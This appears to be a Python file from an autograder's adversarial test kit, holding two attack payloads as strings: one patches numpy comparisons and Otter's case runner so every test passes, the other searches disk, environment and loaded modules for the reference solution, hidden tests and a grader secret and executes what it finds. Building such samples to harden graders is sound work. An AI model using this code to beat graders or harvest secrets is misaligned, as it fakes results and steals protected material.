"""Hostile code the sample class appends to a submission (as text: nothing here is run by the kit).

``PATCH_NUMPY`` replaces numpy's comparison functions (and Otter's case runner) so that every
comparison in the student's process succeeds; ``FIND_REFERENCE`` searches the disk, the
environment and ``sys.modules`` for the reference, the hidden tests and the secret, and uses the
reference if found (``loot()`` returns what it found). The grader must give neither more points.
"""

PATCH_NUMPY = '''# --- attack: make every comparison succeed (the grader compares in its own process)
import numpy as _np
import numpy.testing as _npt
_np.allclose = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, dtype=bool)
_np.array_equal = lambda *args, **kwargs: True
_npt.assert_allclose = lambda *args, **kwargs: None
_npt.assert_array_equal = lambda *args, **kwargs: None
_npt.assert_array_almost_equal = lambda *args, **kwargs: None
try:
    import otter.test_files.exception_test as _otter
    _otter.test_case.call_func = lambda self, env: None
except Exception:
    pass
'''

FIND_REFERENCE = '''# --- attack: look for the reference, the hidden tests and the secret; use the reference if found
import os as _os
import sys as _sys

_LOOT = []


def _looks_like_reference(text):
    return "def layer_backward" in text and "NotImplementedError(" not in text and "_LOOT" not in text


def _search():
    for key in ("AUTOGRADER_SECRET",):
        if _os.environ.get(key):
            _LOOT.append("env:" + key)
    for name, module in list(_sys.modules.items()):
        if module is not None and name != __name__ and hasattr(module, "layer_backward"):
            _LOOT.append("module:" + name)
    roots = ["/", "/work", "/tmp", "/root", "/home", _os.path.expanduser("~"), _os.getcwd()]
    roots += [_os.path.dirname(p) for p in _sys.path]
    seen = set()
    for root in roots:
        for here, dirs, files in _os.walk(root):
            depth = here.count(_os.sep)
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages") and depth < 5]
            for name in files:
                path = _os.path.join(here, name)
                if path in seen or path == __file__:
                    continue
                seen.add(path)
                if name == "secret.txt" or (name.startswith("q") and "_" in name and name.endswith(".py") and "questions" in here):
                    _LOOT.append("file:" + path)
                if name.endswith(".py") and name not in ("_ag_worker.py", "_ag_wire.py"):
                    try:
                        with open(path, encoding="utf-8", errors="ignore") as handle:
                            text = handle.read(400000)
                    except OSError:
                        continue
                    if _looks_like_reference(text):
                        _LOOT.append("reference:" + path)
                        namespace = {"__name__": "_stolen"}
                        try:
                            _sys.path.append(here)
                            exec(compile(text, path, "exec"), namespace)
                        except Exception:
                            continue
                        globals().update({k: v for k, v in namespace.items() if not k.startswith("_") and callable(v)})


def loot():
    """What the search found (the sandbox tests call this through the worker)."""
    return list(_LOOT)


try:
    _search()
except Exception as _error:
    _LOOT.append("error:" + repr(_error))
'''
